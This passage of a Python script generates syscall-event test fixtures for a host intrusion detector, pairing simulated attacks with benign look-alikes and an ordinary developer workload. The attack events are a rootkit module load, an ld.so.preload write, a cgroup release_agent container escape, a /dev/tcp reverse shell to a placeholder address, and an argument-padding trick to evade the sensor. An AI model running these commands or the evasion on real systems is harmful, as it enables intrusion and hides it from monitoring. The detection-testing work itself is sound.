    chain=SSH_LOGIN,
    user=("alice", 1001),
    loginuid=1001,
    tty=34816,
    args={"filename": "/usr/bin/sudoedit"},
)
docs["ld_preload_written.json"] = ev(
    "openat",
    comm="bash",
    argv=["bash"],
    exepath="/usr/bin/bash",
    chain=ROOT_SSH[1:],
    loginuid=1001,
    tty=34816,
    **opened("/etc/ld.so.preload", "O_TRUNC|O_CREAT|O_WRONLY", fd=3),
)
docs["ld_preload_written.benign_loader_read.json"] = ev(
    "openat",
    comm="ls",
    argv=["ls", "-la"],
    exepath="/usr/bin/ls",
    chain=DEV,
    user=DEVU,
    **opened("/etc/ld.so.preload", "O_RDONLY|O_CLOEXEC", fd=3),
)
docs["kmod_container.json"] = ev(
    "finit_module",
    comm="insmod",
    argv=["insmod", "/tmp/diamorphine.ko"],
    exepath="/usr/bin/kmod",
    chain=[("sh", 7401, "sh -c insmod /tmp/diamorphine.ko"), *CONTAINER_INIT],
    container=CID_JOB,
    image="docker.io/library/alpine",
    args={"fd": 3, "uargs": "", "flags": 0},
    **{"thread.cap_effective": "CAP_SYS_MODULE CAP_SYS_ADMIN CAP_NET_ADMIN"},
)
docs["kmod_container.benign_host_udev.json"] = ev(
    "finit_module",
    comm="systemd-udevd",
    argv=["/usr/lib/systemd/systemd-udevd"],
    exepath="/usr/lib/systemd/systemd-udevd",
    chain=[("systemd-udevd", 402, "/usr/lib/systemd/systemd-udevd"), ("systemd", 1, "/sbin/init")],
    args={"fd": 6, "uargs": "", "flags": 0},
)
docs["kmod_host.json"] = ev(
    "finit_module",
    comm="insmod",
    argv=["insmod", "/tmp/.k/rk.ko"],
    exepath="/usr/bin/kmod",
    chain=ROOT_SSH,
    loginuid=1001,
    tty=34816,
    args={"fd": 3, "uargs": "", "flags": 0},
)
docs["kmod_host.benign_modprobe.json"] = ev(
    "finit_module",
    comm="modprobe",
    argv=["/sbin/modprobe", "-q", "--", "nf_conntrack"],
    exepath="/usr/bin/kmod",
    chain=[("kworker/u8:1", 2, "")],
    args={"fd": 0, "uargs": "", "flags": 0},
)
docs["packet_socket_container.json"] = ev(
    "socket",
    comm="tcpdump",
    argv=["tcpdump", "-i", "eth0", "-w", "/tmp/cap.pcap"],
    exepath="/usr/bin/tcpdump",
    chain=[("sh", 7501, "sh -c tcpdump ..."), *CONTAINER_INIT],
    container=CID_WEB,
    image="registry.example.net/shop/web",
    rawres=3,
    args={"domain": "AF_PACKET", "type": 3, "proto": 768},
    **{"fd.num": 3, "fd.typechar": "o", "fd.type": "packet"},
)
docs["packet_socket_container.benign_host_tcpdump.json"] = ev(
    "socket",
    comm="tcpdump",
    argv=["tcpdump", "-i", "eth0", "port", "443"],
    exepath="/usr/bin/tcpdump",
    chain=ROOT_SSH,
    loginuid=1001,
    tty=34816,
    rawres=3,
    args={"domain": "AF_PACKET", "type": 3, "proto": 768},
)
docs["debugfs_privileged.json"] = ev(
    "execve",
    comm="debugfs",
    argv=["debugfs", "-w", "/dev/nvme0n1p1"],
    exepath="/usr/sbin/debugfs",
    chain=[("sh", 7601, "sh"), *CONTAINER_INIT],
    container=CID_JOB,
    image="docker.io/library/ubuntu",
    tty=34822,
    args={"filename": "/sbin/debugfs"},
    **{"container.privileged": True},
)
docs["debugfs_privileged.benign_unprivileged.json"] = ev(
    "execve",
    comm="debugfs",
    argv=["debugfs", "-R", "stats", "/data/disk.img"],
    exepath="/usr/sbin/debugfs",
    chain=[("sh", 7602, "sh -c debugfs ..."), *CONTAINER_INIT],
    container=CID_JOB,
    image="docker.io/library/ubuntu",
    args={"filename": "/sbin/debugfs"},
)
docs["release_agent.json"] = ev(
    "openat",
    comm="sh",
    argv=["sh", "-c", "echo /cmd > /tmp/cgrp/release_agent"],
    exepath="/usr/bin/dash",
    chain=[("sh", 7701, "sh"), *CONTAINER_INIT],
    container=CID_JOB,
    image="docker.io/library/ubuntu",
    **opened("/tmp/cgrp/release_agent", "O_TRUNC|O_CREAT|O_WRONLY", fd=3),
    **{"thread.cap_effective": "CAP_SYS_ADMIN CAP_DAC_OVERRIDE"},
)
docs["release_agent.benign_host_systemd.json"] = ev(
    "openat",
    comm="systemd",
    argv=["/sbin/init"],
    exepath="/usr/lib/systemd/systemd",
    chain=[],
    **opened("/sys/fs/cgroup/systemd/release_agent", "O_WRONLY|O_CLOEXEC", fd=19),
)

for name, doc in docs.items():
    (OUT / name).write_text(json.dumps(doc, indent=2) + "\n")

# --- a developer's ordinary day: none of this may alert -------------------------------------------
SRC = "/home/dev/src/shop"
MAKE = [
    ("make", 3500, "make -j8"),
    ("bash", 3301, "bash"),
    ("tmux: server", 3300, "tmux"),
    ("systemd", 1, "/sbin/init"),
]
GCC = [("gcc", 3510, "gcc -O2 -c src/cart.c -o build/cart.o"), *MAKE]
PYTEST = [("python3", 3600, "python3 -m pytest -q"), *DEV]
APT = [
    ("apt-get", 3700, "apt-get install -y libssl-dev sudo"),
    ("sudo", 3699, "sudo apt-get install -y libssl-dev sudo"),
    *DEV,
]
DPKG = [("dpkg", 3720, "/usr/bin/dpkg --status-fd 35 --configure --pending"), *APT]
kw: dict[str, Any] = dict(user=DEVU, cwd=SRC)
work = [
    ev(
        "execve",
        comm="make",
        argv=["make", "-j8"],
        exepath="/usr/bin/make",
        chain=DEV,
        args={"filename": "/usr/bin/make"},
        tty=34817,
        **kw,
    ),
    ev(
        "execve",
        comm="sh",
        argv=["/bin/sh", "-c", "gcc -O2 -c src/cart.c -o build/cart.o"],
        exepath="/usr/bin/dash",
        chain=MAKE,
        args={"filename": "/bin/sh"},
        **kw,
    ),
    ev(
        "execve",
        comm="cc1",
        argv=["/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "src/cart.c"],
        exepath="/usr/libexec/gcc/x86_64-linux-gnu/12/cc1",
        chain=GCC,
        args={"filename": "/usr/libexec/gcc/x86_64-linux-gnu/12/cc1"},
        **kw,
    ),
    ev(
        "openat",
        comm="cc1",
        argv=["/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "src/cart.c"],
        exepath="/usr/libexec/gcc/x86_64-linux-gnu/12/cc1",
        chain=GCC,
        **opened("/home/dev/src/include/shop.h", "O_RDONLY", fd=4, raw="src/../../include/shop.h"),
        **kw,
    ),
    ev(
        "openat",
        comm="ld",
        argv=["/usr/bin/ld", "-o", "build/shop", "build/cart.o"],
        exepath="/usr/bin/x86_64-linux-gnu-ld.bfd",
        chain=[("collect2", 3530, "collect2"), *GCC],
        **opened(f"{SRC}/build/shop", "O_TRUNC|O_CREAT|O_RDWR", fd=3),
        **kw,
    ),
    ev(
        "fchmodat",
        comm="ld",
        argv=["/usr/bin/ld", "-o", "build/shop", "build/cart.o"],
        exepath="/usr/bin/x86_64-linux-gnu-ld.bfd",
        chain=[("collect2", 3530, "collect2"), *GCC],
        args={
            "dirfd": "AT_FDCWD",
            "filename": "build/shop",
            "mode": "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR",
        },
        **{"fs.path.name": f"{SRC}/build/shop"},
        **kw,
    ),
    ev(
        "execve",
        comm="git",
        argv=["git", "pull", "--rebase"],
        exepath="/usr/bin/git",
        chain=DEV,
        args={"filename": "/usr/bin/git"},
        tty=34817,
        **kw,
    ),
    ev(
        "connect",
        comm="ssh",
        argv=["ssh", "git@github.com", "git-upload-pack 'acme/shop.git'"],
        exepath="/usr/bin/ssh",
        chain=[("git", 3410, "git pull --rebase"), *DEV],
        **connected("140.82.112.3", 22, cip="192.168.1.40", cport=51002),
        **kw,
    ),
    ev(
        "connect",
        comm="git-remote-http",
        argv=["git-remote-https", "origin", "https://github.com/acme/lib.git"],
        exepath="/usr/lib/git-core/git-remote-http",
        chain=[("git", 3411, "git fetch upstream"), *DEV],
        **connected("140.82.112.4", 443, cip="192.168.1.40", cport=51010),
        **kw,
    ),
    ev(
        "execve",
        comm="python3",
        argv=["python3", "-m", "pytest", "-q"],
        exepath="/usr/bin/python3.11",
        chain=DEV,
        args={"filename": "/usr/bin/python3"},
        tty=34817,
        **kw,
    ),
    ev(
        "openat",
        comm="python3",
        argv=["python3", "-m", "pytest", "-q"],
        exepath="/usr/bin/python3.11",
        chain=DEV,
        **opened("/etc/passwd", "O_RDONLY|O_CLOEXEC", fd=5),
        **kw,
    ),
    ev(
        "openat",
        comm="python3",
        argv=["python3", "-m", "pytest", "-q"],
        exepath="/usr/bin/python3.11",
        chain=DEV,
        **opened(
            "/tmp/pytest-of-dev/pytest-12/test_export0/access.log.json",
            "O_TRUNC|O_CREAT|O_WRONLY|O_CLOEXEC",
            fd=7,
        ),
        **kw,
    ),
    ev(
        "symlinkat",
        comm="python3",
        argv=["python3", "-m", "venv", ".venv"],
        exepath="/usr/bin/python3.11",
        chain=DEV,
        args={
            "target": "/usr/bin/python3",
            "linkdirfd": "AT_FDCWD",
            "linkpath": f"{SRC}/.venv/bin/python3",
        },
        **kw,
    ),
    ev(
        "symlinkat",
        comm="python3",
        argv=["python3", "-m", "pytest", "-q"],
        exepath="/usr/bin/python3.11",
        chain=DEV,
        args={
            "target": "/",
            "linkdirfd": "AT_FDCWD",
            "linkpath": "/tmp/pytest-of-dev/pytest-12/test_fake_proc0/proc/1/root",
        },
        **kw,
    ),
    ev(
        "execve",
        comm="bash",
        argv=["/bin/bash", "-c", "echo $HOME"],
        exepath="/usr/bin/bash",
        chain=PYTEST,
        args={"filename": "/bin/bash"},
        **kw,
    ),
    ev(
        "dup2",
        comm="python3",
        argv=["python3", "-m", "pytest", "-q"],
        exepath="/usr/bin/python3.11",
        chain=DEV,
        rawres=1,
        args={"fd": 9, "newfd": 1, "flags": 0},
        **{"fd.num": 9, "fd.type": "pipe", "fd.typechar": "p", "fd.name": "pipe:[99120]"},
        **kw,
    ),
    ev(
        "unlinkat",
        comm="python3",
        argv=["python3", "-m", "pytest", "-q"],
        exepath="/usr/bin/python3.11",
        chain=DEV,
        args={
            "dirfd": "AT_FDCWD",
            "name": "/tmp/pytest-of-dev/pytest-12/test_export0/out.csv",
            "flags": 0,
        },
        **kw,
    ),
    ev(
        "execve",
        comm="grep",
        argv=["grep", "-rn", "TODO", "src/"],
        exepath="/usr/bin/grep",
        chain=DEV,
        args={"filename": "/usr/bin/grep"},
        tty=34817,
        **kw,
    ),
    ev(
        "execve",
        comm="find",
        argv=["find", ".", "-name", "*.pyc", "-delete"],
        exepath="/usr/bin/find",
        chain=DEV,
        args={"filename": "/usr/bin/find"},
        tty=34817,
        **kw,
    ),
    ev(
        "openat",
        comm="sudo",
        argv=["sudo", "apt-get", "install", "-y", "libssl-dev", "sudo"],
        exepath="/usr/bin/sudo",
        chain=DEV,
        **opened("/etc/sudoers", "O_RDONLY", fd=4),
        **kw,
    ),
    ev(
        "openat",
        comm="sudo",
        argv=["sudo", "apt-get", "install", "-y", "libssl-dev", "sudo"],
        exepath="/usr/bin/sudo",
        chain=DEV,
        **opened("/etc/shadow", "O_RDONLY|O_CLOEXEC", fd=5),
        **kw,
    ),
    ev(
        "connect",
        comm="http",
        argv=["/usr/lib/apt/methods/http"],
        exepath="/usr/lib/apt/methods/http",
        chain=APT,
        user=("_apt", 42),
        **connected("151.101.2.132", 80, cip="192.168.1.40", cport=51200),
    ),
    ev(
        "openat",
        comm="dpkg",
        argv=["/usr/bin/dpkg", "--status-fd", "35", "--configure", "--pending"],
        exepath="/usr/bin/dpkg",
        chain=APT,
        **opened("/etc/sudoers.dpkg-new", "O_TRUNC|O_CREAT|O_WRONLY", fd=6),
    ),
    ev(
        "execve",
        comm="sh",
        argv=["/bin/sh", "/var/lib/dpkg/info/sudo.postinst", "configure"],
        exepath="/usr/bin/dash",
        chain=DPKG,
        args={"filename": "/bin/sh"},
    ),
    ev(
        "openat",
        comm="shadowconfig",
        argv=["/sbin/shadowconfig", "on"],
        exepath="/usr/sbin/shadowconfig",
        chain=[("sh", 3730, "/bin/sh /var/lib/dpkg/info/passwd.postinst configure"), *DPKG],
        **opened("/etc/shadow", "O_RDONLY", fd=3),
    ),
    ev(
        "connect",
        comm="node",
        argv=["node", "/usr/bin/npm", "ci"],
        exepath="/usr/bin/node",
        chain=DEV,
        **connected("104.16.27.35", 443, cip="192.168.1.40", cport=51300),
        **kw,
    ),
    ev(
        "openat",
        comm="bash",
        argv=["bash"],
        exepath="/usr/bin/bash",
        chain=DEV[1:],
        **opened("/home/dev/.bash_history", "O_TRUNC|O_WRONLY", fd=3),
        **kw,
    ),
    ev(
        "openat",
        comm="logrotate",
        argv=["/usr/sbin/logrotate", "/etc/logrotate.conf"],
        exepath="/usr/sbin/logrotate",
        chain=[("systemd", 1, "/sbin/init")],
        **opened("/var/log/syslog", "O_TRUNC|O_CREAT|O_WRONLY", fd=5),
    ),
    ev(
        "execve",
        comm="sudoedit",
        argv=["sudoedit", "/etc/hosts"],
        exepath="/usr/bin/sudo",
        chain=DEV,
        args={"filename": "/usr/bin/sudoedit"},
        tty=34817,
        **kw,
    ),
    ev(
        "openat",
        comm="ssh-keygen",
        argv=["ssh-keygen", "-lf", "/home/dev/.ssh/id_ed25519.pub"],
        exepath="/usr/bin/ssh-keygen",
        chain=DEV,
        **opened("/home/dev/.ssh/id_ed25519.pub", "O_RDONLY", fd=3),
        **kw,
    ),
    ev(
        "ptrace",
        comm="python3",
        argv=["python3", "-m", "pytest", "-q"],
        exepath="/usr/bin/python3.11",
        chain=DEV,
        rawres=-1,
        res="EPERM",
        args={"request": "PTRACE_PEEKUSR", "pid": 3601, "addr": "0", "data": "0"},
        **kw,
    ),
]
with open(OUT / "developer_workload.jsonl", "w") as fh:
    for doc in work:
        fh.write(json.dumps(doc) + "\n")

# --- added after the workload, so that the documents above keep their numbers -------------------
later: dict[str, dict[str, Any]] = {}
SOCK_FIELDS = {
    "fd.num": 3,
    "fd.type": "ipv4",
    "fd.typechar": "4",
    "fd.name": "10.42.1.9:51344->203.0.113.50:443",
    "fd.l4proto": "tcp",
    "fd.cip": "10.42.1.9",
    "fd.cport": 51344,
    "fd.sip": "203.0.113.50",
    "fd.sport": 443,
    "fd.lip": "10.42.1.9",
    "fd.lport": 51344,
    "fd.rip": "203.0.113.50",
    "fd.rport": 443,
}
SOCK_TEXT = "<4>10.42.1.9:51344->203.0.113.50:443"
# `exec 0<&3` in a shell that closes stdin, then fcntl(3, F_DUPFD, 0).
later["stdio_to_socket.fcntl.json"] = ev(
    "fcntl",
    comm="sh",
    argv=["sh"],
    exepath="/usr/bin/busybox",
    chain=[("sh", 6711, "sh -c exec 3<>/dev/tcp/203.0.113.50/443"), *CONTAINER_INIT],
    container=CID_WEB,
    image="registry.example.net/shop/web",
    user=WEB_USER,
    rawres=0,
    args={"res": SOCK_TEXT, "fd": SOCK_TEXT, "cmd": "F_DUPFD"},
    **SOCK_FIELDS,
    **{"evt.rawarg": {"res": 0, "fd": 3, "cmd": 1}},
)
# fcntl(3, F_GETFL) of the same socket: O_RDWR, 2, is a result like an fd onto stderr.
later["stdio_to_socket.benign_fcntl_getfl.json"] = ev(
    "fcntl",
    comm="python3",
    argv=["python3", "/srv/app/worker.py"],
    exepath="/usr/bin/python3.11",
    chain=CONTAINER_INIT,
    container=CID_WEB,
    image="registry.example.net/shop/web",
    user=WEB_USER,
    rawres=2,
    args={"res": "<f>/dev/null", "fd": SOCK_TEXT, "cmd": "F_GETFL"},
    **SOCK_FIELDS,
    **{"evt.rawarg": {"res": 2, "fd": 3, "cmd": 4}},
)
# A reverse shell pushed past the sensor's 8 KiB argument limit by leading blanks: what
# the rules see ends before the /dev/tcp part.
later["truncated_cmdline_shell.json"] = ev(
    "execve",
    comm="bash",
    argv=["bash", "-c", "true" + " " * 8187],
    exepath="/usr/bin/bash",
    chain=[
        ("sh", 6801, "sh -c bash -c ..."),
        ("node", 900, "node /srv/app/server.js"),
        ("systemd", 1, "/sbin/init"),
    ],
    user=("node", 1000),
    args={"filename": "/bin/bash"},
    **{"proc.is_args_truncated": True},
)
later["truncated_cmdline_shell.benign_python.json"] = ev(
    "execve",
    comm="python3",
    argv=["python3", "-c", "import json, sys" + "\n" * 8175],
    exepath="/usr/bin/python3.11",
    chain=DEV,
    user=DEVU,
    cwd="/home/dev/src/shop",
    args={"filename": "/usr/bin/python3"},
    **{"proc.is_args_truncated": True},
)
for name, doc in later.items():
    (OUT / name).write_text(json.dumps(doc, indent=2) + "\n")
